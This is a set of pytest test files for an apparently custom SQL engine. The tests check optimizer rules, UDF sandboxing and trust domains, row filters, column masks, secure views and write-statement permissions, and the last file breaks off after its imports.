        plan = optimize(Project(UnresolvedRelation("t"), [Arithmetic("+", lit(1), lit(2))]))
        project = plan
        assert isinstance(project.exprs[0], Literal)
        assert project.exprs[0].value == 3

    def test_true_filter_removed(self):
        plan = optimize(Filter(UnresolvedRelation("t"), Comparison("=", lit(1), lit(1))))
        assert "Filter" not in node_types(plan)

    def test_false_filter_becomes_empty(self):
        plan = optimize(Filter(UnresolvedRelation("t"), Comparison("=", lit(1), lit(2))))
        assert "Filter" not in node_types(plan)
        assert "LocalRelation" in node_types(plan)

    def test_current_user_not_folded(self):
        from repro.engine.expressions import CurrentUser

        plan = optimize(
            Filter(UnresolvedRelation("t"), Comparison("=", CurrentUser(), lit("x")))
        )
        assert "Filter" in node_types(plan)

    def test_folding_can_be_disabled(self):
        config = OptimizerConfig(constant_folding=False)
        plan = optimize(
            Project(UnresolvedRelation("t"), [Arithmetic("+", lit(1), lit(2))]),
            config,
        )
        assert not isinstance(plan.exprs[0], Literal)


class TestFilterRules:
    def test_combine_filters(self):
        plan = optimize(
            Filter(
                Filter(UnresolvedRelation("t"), Comparison(">", col("id"), lit(0))),
                Comparison("<", col("id"), lit(5)),
            )
        )
        filters = [n for n in plan.walk() if type(n).__name__ == "Filter"]
        assert len(filters) == 0 or len(filters) == 1

    def test_filter_pushed_into_scan(self):
        plan = optimize(
            Filter(UnresolvedRelation("scan_t"), Comparison("=", col("region"), lit("US")))
        )
        scans = [n for n in plan.walk() if isinstance(n, Scan)]
        assert scans and scans[0].pushed_filters

    def test_column_pruning(self):
        plan = optimize(Project(UnresolvedRelation("scan_t"), [col("id")]))
        scans = [n for n in plan.walk() if isinstance(n, Scan)]
        assert scans[0].required_columns == (0,)


class TestSecureViewBarrier:
    """The central security property of the optimizer (§3.4)."""

    def _secure_plan(self):
        # SecureView(Filter(region='US', Scan)) — a policy-injected shape.
        inner = Filter(Scan(TREF), Comparison("=", col("region"), lit("US")))
        return SecureView(inner, "c.s.t", owner="admin")

    def test_safe_filter_crosses_barrier(self):
        plan = Filter(
            SecureView(UnresolvedRelation("scan_t"), "v"),
            Comparison(">", col("id"), lit(0)),
        )
        optimized = optimize(plan)
        names = node_types(optimized)
        # The user's filter moved inside; no Filter remains above SecureView.
        assert names[0] == "SecureView"

    def test_udf_predicate_stays_above_barrier(self):
        @udf("bool")
        def sneaky(x):
            return True

        plan = Filter(SecureView(UnresolvedRelation("scan_t"), "v"), sneaky(col("id")))
        optimized = optimize(analyzed_passthrough(plan))
        names = node_types(optimized)
        assert names[0] == "Filter", "user-code predicate must stay above SecureView"
        assert names[1] == "SecureView"

    def test_nondeterministic_predicate_stays_above_barrier(self):
        @udf("bool", deterministic=False)
        def flaky(x):
            return True

        plan = Filter(SecureView(UnresolvedRelation("scan_t"), "v"), flaky(col("id")))
        optimized = optimize(analyzed_passthrough(plan))
        assert node_types(optimized)[0] == "Filter"

    def test_mixed_conjunct_stays_above(self):
        """A conjunction containing user code must not cross either."""

        @udf("bool")
        def probe(x):
            return True

        condition = BooleanOp(
            "AND", Comparison(">", col("id"), lit(0)), probe(col("id"))
        )
        plan = Filter(SecureView(UnresolvedRelation("scan_t"), "v"), condition)
        optimized = optimize(analyzed_passthrough(plan))
        assert node_types(optimized)[0] == "Filter"


def analyzed_passthrough(plan):
    """Helper for plans containing UDF calls (analysis handles them fine)."""
    return plan


class TestUDFFusion:
    def _project_with_udfs(self, owners):
        @udf("float")
        def f(x):
            return x

        exprs = []
        for i, owner in enumerate(owners):
            call = f.with_owner(owner)(col("v"))
            exprs.append(Alias(call, f"c{i}"))
        return Project(UnresolvedRelation("t"), exprs)

    def _fusion_groups(self, plan):
        groups = set()
        for node in plan.walk():
            for expr in node.expressions():
                for e in expr.walk():
                    if isinstance(e, PythonUDFCall):
                        groups.add(e.fusion_group)
        return groups

    def test_same_domain_fuses_into_one_group(self):
        plan = optimize(self._project_with_udfs(["alice", "alice", "alice"]))
        groups = self._fusion_groups(plan)
        assert len(groups) == 1 and None not in groups

    def test_trust_domains_break_fusion(self):
        plan = optimize(self._project_with_udfs(["alice", "bob", "alice"]))
        groups = self._fusion_groups(plan)
        assert len(groups) == 2

    def test_fusion_disabled(self):
        config = OptimizerConfig(udf_fusion=False)
        plan = optimize(self._project_with_udfs(["alice", "alice"]), config)
        assert self._fusion_groups(plan) == {None}


class TestProjectRules:
    def test_collapse_simple_projects(self):
        plan = optimize(
            Project(
                Project(UnresolvedRelation("t"), [col("id"), col("v")]),
                [col("id")],
            )
        )
        projects = [n for n in plan.walk() if isinstance(n, Project)]
        assert len(projects) == 1

    def test_push_filter_through_project(self):
        plan = optimize(
            Filter(
                Project(UnresolvedRelation("t"), [Alias(col("id"), "x"), col("v")]),
                Comparison(">", col("x"), lit(0)),
            )
        )
        names = node_types(plan)
        assert names.index("Project") < names.index("Filter") or "Filter" not in names


class TestOptimizerEquivalence:
    """Optimized and unoptimized plans must agree — on every config."""

    @pytest.mark.parametrize(
        "config",
        [
            OptimizerConfig(),
            OptimizerConfig(constant_folding=False),
            OptimizerConfig(filter_pushdown=False),
            OptimizerConfig(column_pruning=False),
            OptimizerConfig(collapse_projects=False),
            OptimizerConfig(udf_fusion=False),
        ],
    )
    def test_results_invariant_under_config(self, config):
        resolver = DictResolver({"t": DATA})
        engine = QueryEngine(resolver, optimizer_config=config)
        plan = Project(
            Filter(UnresolvedRelation("t"), Comparison(">", col("v"), lit(0.5))),
            [col("id"), Alias(Arithmetic("*", col("v"), lit(10.0)), "v10")],
        )
        assert engine.execute(plan).rows() == [(1, 10.0), (2, 20.0)]
