"""Tests for session-temporary UDF registration and builtin functions."""

import pytest

from repro.connect.client import udf
from repro.engine.analyzer import DictResolver
from repro.engine.executor import QueryEngine
from repro.engine.logical import LocalRelation
from repro.engine.types import FLOAT, INT, STRING, Field, Schema
from repro.sql.parser import parse_statement
from repro.sql.to_plan import PlanBuilder


class TestSessionUDFRegistration:
    def test_registered_udf_callable_from_sql(self, workspace, standard_cluster, admin_client):
        @udf("float")
        def with_tax(amount):
            return amount * 1.19

        alice = standard_cluster.connect("alice")
        alice.register_udf(with_tax)
        rows = alice.sql(
            "SELECT with_tax(amount) AS gross FROM main.sales.orders WHERE id = 1"
        ).collect()
        assert rows[0][0] == pytest.approx(11.9)

    def test_registered_udf_runs_in_sandbox(self, workspace, standard_cluster, admin_client):
        @udf("int")
        def one(x):
            return 1

        alice = standard_cluster.connect("alice")
        alice.register_udf(one)
        alice.sql("SELECT one(id) AS o FROM main.sales.orders").collect()
        assert standard_cluster.backend.cluster_manager.stats.created >= 1

    def test_registration_is_session_scoped(self, workspace, standard_cluster, admin_client):
        @udf("int")
        def secret_fn(x):
            return 42

        alice = standard_cluster.connect("alice")
        alice.register_udf(secret_fn)
        carol = standard_cluster.connect("carol")
        from repro.errors import AnalysisError

        with pytest.raises(AnalysisError, match="unknown function"):
            carol.sql("SELECT secret_fn(id) AS s FROM main.sales.orders").collect()

    def test_registered_udf_has_callers_trust_domain(
        self, workspace, standard_cluster, admin_client
    ):
        @udf("int")
        def f(x):
            return x

        alice = standard_cluster.connect("alice")
        alice.register_udf(f)
        alice.sql("SELECT f(id) AS v FROM main.sales.orders").collect()
        sandboxes = standard_cluster.backend.cluster_manager.active_sandboxes()
        assert any(s.trust_domain == "alice" for s in sandboxes)

    def test_garbage_blob_rejected(self, workspace, standard_cluster, admin_client):
        from repro.connect import proto
        from repro.errors import ProtocolError

        alice = standard_cluster.connect("alice")
        with pytest.raises(ProtocolError, match="undeserializable"):
            alice.execute_command(
                proto.register_function_command("evil", "int", b"garbage")
            )


SCHEMA = Schema((Field("i", INT), Field("f", FLOAT), Field("s", STRING)))
DATA = LocalRelation(
    SCHEMA, [[-3, 7, None], [2.25, -1.5, None], [" pad ", "text", None]]
)


@pytest.fixture
def engine():
    return QueryEngine(DictResolver({"t": DATA}))


def one_row(engine, expr_sql):
    rows = engine.execute(
        PlanBuilder().build(parse_statement(f"SELECT {expr_sql} AS x FROM t LIMIT 1"))
    ).rows()
    return rows[0][0]


class TestBuiltinFunctions:
    def test_abs(self, engine):
        assert one_row(engine, "abs(i)") == 3

    def test_floor_ceil(self, engine):
        assert one_row(engine, "floor(f)") == 2
        assert one_row(engine, "ceil(f)") == 3

    def test_sqrt(self, engine):
        assert one_row(engine, "sqrt(4.0)") == 2.0

    def test_sqrt_negative_is_null(self, engine):
        assert one_row(engine, "sqrt(-1.0)") is None

    def test_round(self, engine):
        assert one_row(engine, "round(2.25, 1)") == 2.2  # banker's rounding

    def test_trim(self, engine):
        assert one_row(engine, "trim(s)") == "pad"

    def test_replace(self, engine):
        assert one_row(engine, "replace('axbxc', 'x', '-')") == "a-b-c"

    def test_startswith_endswith_contains(self, engine):
        assert one_row(engine, "startswith('hello', 'he')") is True
        assert one_row(engine, "endswith('hello', 'lo')") is True
        assert one_row(engine, "contains('hello', 'ell')") is True

    def test_greatest_least(self, engine):
        assert one_row(engine, "greatest(1, 5)") == 5
        assert one_row(engine, "least(1, 5)") == 1

    def test_if_function(self, engine):
        assert one_row(engine, "IF(i < 0, 'neg', 'pos')") == "neg"

    def test_hash_stable(self, engine):
        assert one_row(engine, "hash('x')") == one_row(engine, "hash('x')")

    def test_null_propagation_through_builtins(self, engine):
        rows = engine.execute(
            PlanBuilder().build(
                parse_statement("SELECT upper(s) AS u, abs(i) AS a FROM t")
            )
        ).rows()
        assert rows[2] == (None, None)

    def test_concat_multiple_args(self, engine):
        assert one_row(engine, "concat('a', 'b', 'c')") == "abc"

    def test_cast_chains(self, engine):
        assert one_row(engine, "CAST(CAST(2.9 AS int) AS string)") == "2"


class TestVolumePathAccess:
    def test_volume_credential_vend(self, workspace, standard_cluster, admin_client):
        cat = workspace.catalog
        cat.create_volume("main.sales.rawfiles", owner="admin")
        cat.grant("READ_VOLUME", "main.sales.rawfiles", "analysts")
        ctx = cat.principals.context_for("alice")
        cred = cat.vend_path_credential(
            ctx, "main.sales.rawfiles", {"READ"}, standard_cluster.backend.caps
        )
        volume = cat.get_object("main.sales.rawfiles")
        assert cred.authorizes(f"{volume.storage_root}/file.bin", "READ", 0)

    def test_volume_write_requires_write_grant(self, workspace, standard_cluster, admin_client):
        from repro.errors import PermissionDenied

        cat = workspace.catalog
        cat.create_volume("main.sales.rawfiles", owner="admin")
        cat.grant("READ_VOLUME", "main.sales.rawfiles", "analysts")
        ctx = cat.principals.context_for("alice")
        with pytest.raises(PermissionDenied):
            cat.vend_path_credential(
                ctx, "main.sales.rawfiles", {"WRITE"},
                standard_cluster.backend.caps,
            )

    def test_volume_roundtrip_through_store(self, workspace, standard_cluster, admin_client):
        cat = workspace.catalog
        cat.create_volume("main.sales.rawfiles", owner="admin")
        ctx = cat.principals.context_for("admin")
        cred = cat.vend_path_credential(
            ctx, "main.sales.rawfiles", {"READ", "WRITE"},
            standard_cluster.backend.caps,
        )
        volume = cat.get_object("main.sales.rawfiles")
        cat.store.put(f"{volume.storage_root}/blob.bin", b"\x00\x01", cred)
        assert cat.store.get(f"{volume.storage_root}/blob.bin", cred) == b"\x00\x01"
