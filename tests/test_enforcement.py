"""Tests for governed resolution: FGAC injection, views, definer rights."""

import pytest

from repro.connect.client import col, udf
from repro.engine.logical import Scan, SecureView
from repro.errors import PermissionDenied

pytestmark = pytest.mark.usefixtures("admin_client")


def grant_hr(admin_client):
    admin_client.sql("GRANT USE CATALOG ON main TO hr")
    admin_client.sql("GRANT USE SCHEMA ON main.sales TO hr")
    admin_client.sql("GRANT SELECT ON main.sales.orders TO hr")


class TestRowFilters:
    def test_row_filter_applies_per_user(self, standard_cluster, admin_client):
        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER "
            "(region = 'US' OR is_account_group_member('hr'))"
        )
        grant_hr(admin_client)
        alice = standard_cluster.connect("alice")  # analysts only
        carol = standard_cluster.connect("carol")  # analysts + hr
        assert len(alice.table("main.sales.orders").collect()) == 2
        assert len(carol.table("main.sales.orders").collect()) == 4

    def test_current_user_filter(self, standard_cluster, admin_client):
        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER (buyer = current_user())"
        )
        # No buyer equals 'alice', so she sees nothing; admin is also filtered
        # (row filters apply to admins too — only the grant check is bypassed).
        alice = standard_cluster.connect("alice")
        assert alice.table("main.sales.orders").collect() == []

    def test_filter_composes_with_query_predicates(self, standard_cluster, admin_client):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        alice = standard_cluster.connect("alice")
        rows = alice.sql(
            "SELECT id FROM main.sales.orders WHERE amount > 15"
        ).collect()
        assert rows == [(3,)]

    def test_drop_row_filter_restores_visibility(self, standard_cluster, admin_client):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        admin_client.sql("ALTER TABLE main.sales.orders DROP ROW FILTER")
        alice = standard_cluster.connect("alice")
        assert len(alice.table("main.sales.orders").collect()) == 4


class TestColumnMasks:
    def test_mask_hides_values(self, standard_cluster, admin_client):
        admin_client.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK "
            "(CASE WHEN is_account_group_member('hr') THEN buyer ELSE '***' END)"
        )
        grant_hr(admin_client)
        alice = standard_cluster.connect("alice")
        carol = standard_cluster.connect("carol")
        assert {r[3] for r in alice.table("main.sales.orders").collect()} == {"***"}
        assert "p1" in {r[3] for r in carol.table("main.sales.orders").collect()}

    def test_mask_may_reference_other_columns(self, standard_cluster, admin_client):
        admin_client.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK "
            "(CASE WHEN region = 'US' THEN buyer ELSE 'masked' END)"
        )
        alice = standard_cluster.connect("alice")
        rows = alice.sql(
            "SELECT region, buyer FROM main.sales.orders ORDER BY id"
        ).collect()
        assert rows == [
            ("US", "p1"), ("EU", "masked"), ("US", "p3"), ("APAC", "masked"),
        ]

    def test_row_filter_sees_unmasked_values(self, standard_cluster, admin_client):
        """Filters evaluate before masks (order matters for correctness)."""
        admin_client.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN region SET MASK ('X')"
        )
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        alice = standard_cluster.connect("alice")
        rows = alice.table("main.sales.orders").collect()
        assert len(rows) == 2  # filter matched real values
        assert {r[1] for r in rows} == {"X"}  # but output is masked

    def test_mask_applies_through_aggregation(self, standard_cluster, admin_client):
        admin_client.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK ('***')"
        )
        alice = standard_cluster.connect("alice")
        rows = alice.sql(
            "SELECT buyer, count(*) AS n FROM main.sales.orders GROUP BY buyer"
        ).collect()
        assert rows == [("***", 4)]


class TestViews:
    def test_view_projects_subset(self, standard_cluster, admin_client):
        admin_client.sql(
            "CREATE VIEW main.sales.amounts AS "
            "SELECT id, amount FROM main.sales.orders"
        )
        admin_client.sql("GRANT SELECT ON main.sales.amounts TO analysts")
        alice = standard_cluster.connect("alice")
        rows = alice.table("main.sales.amounts").collect()
        assert len(rows[0]) == 2

    def test_definer_rights(self, workspace, standard_cluster, admin_client):
        """A view grants access to data its *owner* can see, not the reader."""
        admin_client.sql("REVOKE SELECT ON main.sales.orders FROM analysts")
        admin_client.sql(
            "CREATE VIEW main.sales.summary AS "
            "SELECT region, sum(amount) AS total FROM main.sales.orders GROUP BY region"
        )
        admin_client.sql("GRANT SELECT ON main.sales.summary TO analysts")
        alice = standard_cluster.connect("alice")
        # Direct access denied…
        with pytest.raises(PermissionDenied):
            alice.table("main.sales.orders").collect()
        # …but the view works with the admin-owner's rights.
        rows = alice.table("main.sales.summary").collect()
        assert len(rows) == 3

    def test_dynamic_view_per_user(self, standard_cluster, admin_client):
        admin_client.sql(
            "CREATE VIEW main.sales.mine AS SELECT * FROM main.sales.orders "
            "WHERE is_account_group_member('hr') OR region = 'US'"
        )
        admin_client.sql("GRANT SELECT ON main.sales.mine TO analysts")
        alice = standard_cluster.connect("alice")
        carol = standard_cluster.connect("carol")
        assert len(alice.table("main.sales.mine").collect()) == 2
        assert len(carol.table("main.sales.mine").collect()) == 4

    def test_view_over_view(self, standard_cluster, admin_client):
        admin_client.sql(
            "CREATE VIEW main.sales.v1 AS SELECT id, region FROM main.sales.orders"
        )
        admin_client.sql(
            "CREATE VIEW main.sales.v2 AS SELECT region FROM main.sales.v1 "
            "WHERE id > 2"
        )
        admin_client.sql("GRANT SELECT ON main.sales.v2 TO analysts")
        alice = standard_cluster.connect("alice")
        assert sorted(alice.table("main.sales.v2").collect()) == [("APAC",), ("US",)]

    def test_view_respects_base_table_row_filter(self, standard_cluster, admin_client):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        admin_client.sql(
            "CREATE VIEW main.sales.ids AS SELECT id FROM main.sales.orders"
        )
        admin_client.sql("GRANT SELECT ON main.sales.ids TO analysts")
        alice = standard_cluster.connect("alice")
        assert sorted(alice.table("main.sales.ids").collect()) == [(1,), (3,)]


class TestMaterializedViews:
    def test_materialization_served_from_storage(self, standard_cluster, admin_client):
        admin_client.sql(
            "CREATE MATERIALIZED VIEW main.sales.mv AS "
            "SELECT region, sum(amount) AS total FROM main.sales.orders GROUP BY region"
        )
        admin_client.sql("GRANT SELECT ON main.sales.mv TO analysts")
        alice = standard_cluster.connect("alice")
        rows = dict(alice.table("main.sales.mv").collect())
        assert rows == {"US": 40.0, "EU": 20.0, "APAC": 40.0}

    def test_materialization_is_snapshotted(self, standard_cluster, admin_client):
        admin_client.sql(
            "CREATE MATERIALIZED VIEW main.sales.mv2 AS "
            "SELECT count(*) AS n FROM main.sales.orders"
        )
        admin_client.sql("GRANT SELECT ON main.sales.mv2 TO analysts")
        admin_client.sql("INSERT INTO main.sales.orders VALUES (9,'US',1.0,'p9')")
        alice = standard_cluster.connect("alice")
        # Still the refreshed snapshot, not the live count.
        assert alice.table("main.sales.mv2").collect() == [(4,)]


class TestPlanShape:
    def test_secure_view_wraps_policy_tables(self, standard_cluster, admin_client):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        alice = standard_cluster.connect("alice")
        alice.table("main.sales.orders").collect()
        analyzed = standard_cluster.backend.last_result.analyzed_plan
        assert any(isinstance(n, SecureView) for n in analyzed.walk())

    def test_plain_table_not_wrapped(self, standard_cluster, admin_client):
        alice = standard_cluster.connect("alice")
        alice.table("main.sales.orders").collect()
        analyzed = standard_cluster.backend.last_result.analyzed_plan
        assert not any(isinstance(n, SecureView) for n in analyzed.walk())
        assert any(isinstance(n, Scan) for n in analyzed.walk())

    def test_udf_argument_only_sees_policy_output(self, standard_cluster, admin_client):
        """A UDF must receive filtered/masked values, never raw rows."""
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        admin_client.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK ('***')"
        )
        @udf("string")
        def spy(value):
            # Whatever reaches the UDF is echoed into the result; raw values
            # would show up verbatim here.
            return f"saw:{value}"

        alice = standard_cluster.connect("alice")
        rows = alice.table("main.sales.orders").select(spy(col("buyer"))).collect()
        assert rows == [("saw:***",), ("saw:***",)]
