"""SQL write statements (INSERT/UPDATE/DELETE/MERGE) under full FGAC.

Parser coverage for the PR-10 grammar, end-to-end governance of each write
statement (MODIFY checks, row filters constraining the touchable rows,
masked columns unwritable and unreadable from write expressions), and
backend equivalence: the same write workload must produce identical final
table state on the thread and process worker backends.
"""

from __future__ import annotations

import pytest

from repro.errors import (
    AnalysisError,
    ParseError,
    PermissionDenied,
    WriteDeniedError,
)
from repro.platform import Workspace
from repro.sql import ast_nodes as ast
from repro.sql.parser import parse_statement

ORDERS = "main.sales.orders"


class TestWriteStatementParsing:
    def test_update_with_where(self):
        stmt = parse_statement(
            "UPDATE t SET amount = amount + 1, region = 'US' WHERE id = 3"
        )
        assert isinstance(stmt, ast.UpdateStatement)
        assert stmt.table == "t"
        assert [col for col, _ in stmt.assignments] == ["amount", "region"]
        assert stmt.where is not None

    def test_update_without_where(self):
        stmt = parse_statement("UPDATE a.b.c SET x = 1")
        assert isinstance(stmt, ast.UpdateStatement)
        assert stmt.where is None

    def test_delete_with_where(self):
        stmt = parse_statement("DELETE FROM a.b.c WHERE id = 1")
        assert isinstance(stmt, ast.DeleteStatement)
        assert stmt.table == "a.b.c"
        assert stmt.where is not None

    def test_delete_all(self):
        stmt = parse_statement("DELETE FROM t")
        assert stmt.where is None

    def test_merge_full_form(self):
        stmt = parse_statement(
            "MERGE INTO tgt AS t USING src AS s ON t.id = s.id "
            "WHEN MATCHED THEN UPDATE SET amount = s.amount "
            "WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.amount)"
        )
        assert isinstance(stmt, ast.MergeStatement)
        assert stmt.target == "tgt" and stmt.source == "src"
        assert stmt.target_alias == "t" and stmt.source_alias == "s"
        assert stmt.matched_assignments is not None
        assert stmt.insert_values is not None and len(stmt.insert_values) == 2

    def test_merge_matched_delete(self):
        stmt = parse_statement(
            "MERGE INTO tgt USING src ON tgt.id = src.id "
            "WHEN MATCHED THEN DELETE"
        )
        assert stmt.matched_delete is True
        assert stmt.matched_assignments is None

    def test_merge_requires_a_when_clause(self):
        with pytest.raises(ParseError):
            parse_statement("MERGE INTO tgt USING src ON tgt.id = src.id")

    def test_merge_rejects_duplicate_matched_clause(self):
        with pytest.raises(ParseError):
            parse_statement(
                "MERGE INTO t USING s ON t.id = s.id "
                "WHEN MATCHED THEN DELETE WHEN MATCHED THEN DELETE"
            )

    def test_insert_select_captures_query(self):
        stmt = parse_statement("INSERT INTO t SELECT id, amount FROM u")
        assert isinstance(stmt, ast.InsertStatement)
        assert stmt.rows == []
        assert stmt.query_sql.startswith("SELECT")

    def test_begin_commit_rollback(self):
        assert isinstance(parse_statement("BEGIN"), ast.BeginStatement)
        assert isinstance(
            parse_statement("BEGIN TRANSACTION"), ast.BeginStatement
        )
        assert isinstance(parse_statement("COMMIT"), ast.CommitStatement)
        assert isinstance(parse_statement("ROLLBACK"), ast.RollbackStatement)

    def test_collect_statement_tables_covers_writes(self):
        from repro.connect.proto import _collect_sql_tables

        def tables_of(sql):
            out: set[str] = set()
            assert _collect_sql_tables(sql, out)
            return out

        assert tables_of("UPDATE a.b.c SET x = 1") == {"a.b.c"}
        assert tables_of("DELETE FROM a.b.c") == {"a.b.c"}
        assert tables_of(
            "MERGE INTO a.b.t USING a.b.s ON t.id = s.id "
            "WHEN MATCHED THEN DELETE"
        ) == {"a.b.t", "a.b.s"}
        assert tables_of("INSERT INTO a.b.c SELECT * FROM a.b.d") == {
            "a.b.c",
            "a.b.d",
        }


@pytest.fixture
def workspace():
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_group("analysts", ["alice"])
    cat = ws.catalog
    cat.create_catalog("main", owner="admin")
    cat.create_schema("main.sales", owner="admin")
    yield ws
    ws.shutdown()


@pytest.fixture
def cluster(workspace):
    return workspace.create_standard_cluster()


@pytest.fixture
def admin(cluster):
    client = cluster.connect("admin")
    client.sql(
        f"CREATE TABLE {ORDERS} "
        "(id int, region string, amount float, buyer string)"
    )
    client.sql(
        f"INSERT INTO {ORDERS} VALUES "
        "(1,'US',10.0,'p1'),(2,'EU',20.0,'p2'),(3,'US',30.0,'p3')"
    )
    client.sql("GRANT USE CATALOG ON main TO analysts")
    client.sql("GRANT USE SCHEMA ON main.sales TO analysts")
    client.sql(f"GRANT SELECT ON {ORDERS} TO analysts")
    return client


@pytest.fixture
def alice(cluster, admin):
    return cluster.connect("alice")


def rows(client, sql):
    return sorted(client.sql(sql).collect())


class TestWriteGovernance:
    def test_insert_requires_modify(self, admin, alice):
        with pytest.raises(PermissionDenied):
            alice.sql(f"INSERT INTO {ORDERS} VALUES (9,'US',1.0,'x')")

    def test_update_requires_modify(self, admin, alice):
        with pytest.raises(PermissionDenied):
            alice.sql(f"UPDATE {ORDERS} SET amount = 0.0")

    def test_delete_requires_modify(self, admin, alice):
        with pytest.raises(PermissionDenied):
            alice.sql(f"DELETE FROM {ORDERS}")

    def test_update_confined_to_row_filter(self, workspace, admin, alice):
        admin.sql(f"GRANT MODIFY ON {ORDERS} TO analysts")
        admin.sql(f"ALTER TABLE {ORDERS} SET ROW FILTER (region = 'US')")
        alice.sql(f"UPDATE {ORDERS} SET amount = amount + 100.0")
        admin.sql(f"ALTER TABLE {ORDERS} DROP ROW FILTER")
        truth = rows(admin, f"SELECT id, amount FROM {ORDERS}")
        assert truth == [(1, 110.0), (2, 20.0), (3, 130.0)]

    def test_delete_confined_to_row_filter(self, workspace, admin, alice):
        admin.sql(f"GRANT MODIFY ON {ORDERS} TO analysts")
        admin.sql(f"ALTER TABLE {ORDERS} SET ROW FILTER (region = 'US')")
        alice.sql(f"DELETE FROM {ORDERS}")  # only her visible rows die
        admin.sql(f"ALTER TABLE {ORDERS} DROP ROW FILTER")
        assert rows(admin, f"SELECT id FROM {ORDERS}") == [(2,)]

    def test_masked_column_unassignable(self, workspace, admin, alice):
        admin.sql(f"GRANT MODIFY ON {ORDERS} TO analysts")
        admin.sql(
            f"ALTER TABLE {ORDERS} ALTER COLUMN buyer SET MASK ('***')"
        )
        with pytest.raises(WriteDeniedError):
            alice.sql(f"UPDATE {ORDERS} SET buyer = 'evil'")

    def test_masked_column_unreadable_in_where(self, workspace, admin, alice):
        admin.sql(f"GRANT MODIFY ON {ORDERS} TO analysts")
        admin.sql(
            f"ALTER TABLE {ORDERS} ALTER COLUMN buyer SET MASK ('***')"
        )
        with pytest.raises(WriteDeniedError):
            alice.sql(f"DELETE FROM {ORDERS} WHERE buyer = 'p1'")

    def test_merge_matched_clause_masked_read_refused(
        self, workspace, admin, alice
    ):
        admin.sql(f"GRANT MODIFY ON {ORDERS} TO analysts")
        admin.sql(
            f"ALTER TABLE {ORDERS} ALTER COLUMN buyer SET MASK ('***')"
        )
        with pytest.raises(WriteDeniedError):
            alice.sql(
                f"MERGE INTO {ORDERS} AS t USING {ORDERS} AS s "
                "ON t.buyer = s.buyer "
                "WHEN MATCHED THEN UPDATE SET amount = 0.0"
            )

    def test_mask_write_block_applies_to_every_principal(
        self, workspace, admin
    ):
        # The refusal is conservative and principal-blind: the mask
        # expression encodes any exemption (e.g. an hr CASE branch), which
        # a write cannot partially evaluate — so even admins must drop the
        # mask before repairing masked data.
        admin.sql(
            f"ALTER TABLE {ORDERS} ALTER COLUMN buyer SET MASK ('***')"
        )
        with pytest.raises(WriteDeniedError):
            admin.sql(f"UPDATE {ORDERS} SET buyer = 'fixed' WHERE id = 1")
        admin.sql(f"ALTER TABLE {ORDERS} ALTER COLUMN buyer DROP MASK")
        admin.sql(f"UPDATE {ORDERS} SET buyer = 'fixed' WHERE id = 1")
        assert (1, "fixed") in rows(admin, f"SELECT id, buyer FROM {ORDERS}")

    def test_insert_select_enforces_source_policies(
        self, workspace, admin, alice
    ):
        admin.sql(
            "CREATE TABLE main.sales.sink "
            "(id int, region string, amount float, buyer string)"
        )
        admin.sql("GRANT SELECT ON main.sales.sink TO analysts")
        admin.sql("GRANT MODIFY ON main.sales.sink TO analysts")
        admin.sql(f"ALTER TABLE {ORDERS} SET ROW FILTER (region = 'US')")
        admin.sql(
            f"ALTER TABLE {ORDERS} ALTER COLUMN buyer SET MASK ('***')"
        )
        alice.sql(f"INSERT INTO main.sales.sink SELECT * FROM {ORDERS}")
        sunk = rows(alice, "SELECT id, buyer FROM main.sales.sink")
        # Row filter dropped the EU row; the mask replaced raw buyers.
        assert sunk == [(1, "***"), (3, "***")]

    def test_update_arity_and_unknown_column_rejected(self, admin):
        with pytest.raises(AnalysisError):
            admin.sql(f"UPDATE {ORDERS} SET nope = 1")
        with pytest.raises(AnalysisError):
            admin.sql(f"INSERT INTO {ORDERS} VALUES (1, 'US')")


class TestBackendEquivalence:
    @pytest.mark.parametrize("backend", ["thread", "process"])
    def test_write_workload_identical_final_state(self, backend):
        ws = Workspace()
        ws.add_user("admin", admin=True)
        cat = ws.catalog
        cat.create_catalog("main", owner="admin")
        cat.create_schema("main.sales", owner="admin")
        cluster = ws.create_standard_cluster(worker_backend=backend)
        try:
            client = cluster.connect("admin")
            client.sql(
                f"CREATE TABLE {ORDERS} (id int, region string, amount float)"
            )
            client.sql(
                f"INSERT INTO {ORDERS} VALUES "
                "(1,'US',10.0),(2,'EU',20.0),(3,'US',30.0)"
            )
            client.sql(
                f"UPDATE {ORDERS} SET amount = amount * 2.0 "
                "WHERE region = 'US'"
            )
            client.sql(f"DELETE FROM {ORDERS} WHERE id = 2")
            client.sql("BEGIN")
            client.sql(f"INSERT INTO {ORDERS} VALUES (4,'APAC',40.0)")
            client.sql("COMMIT")
            final = rows(client, f"SELECT id, region, amount FROM {ORDERS}")
            assert final == [
                (1, "US", 20.0),
                (3, "US", 60.0),
                (4, "APAC", 40.0),
            ]
        finally:
            ws.shutdown()
