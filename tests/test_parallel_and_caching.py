"""Parallel scan execution and the multi-level enforcement caches.

Covers the performance layers added on top of the enforcement pipeline:

- parallel scan tasks whose ``scan-task-*`` spans join the originating
  query's trace despite running on worker threads;
- the secure-plan cache (hit/miss/stale-epoch semantics, per-user keys,
  temp-state versioning, LRU eviction);
- the TTL-aware credential cache (reuse, refresh-ahead, expiry, epoch
  invalidation, out-of-band revocation);
- dispatcher prewarming, the spare-sandbox pool, and pool thread safety;
- batch-size chunking through local and governed scans;
- the ``system.access.cache_stats`` table.
"""

from __future__ import annotations

import threading

import pytest

from repro.common.clock import VirtualClock
from repro.core.plan_cache import PlanCacheKey, SecurePlanCache, fingerprint_relation
from repro.engine.batch import ColumnBatch, chunk_batch
from repro.engine.types import Field, INT, STRING, Schema
from repro.errors import PermissionDenied, TrustDomainViolation
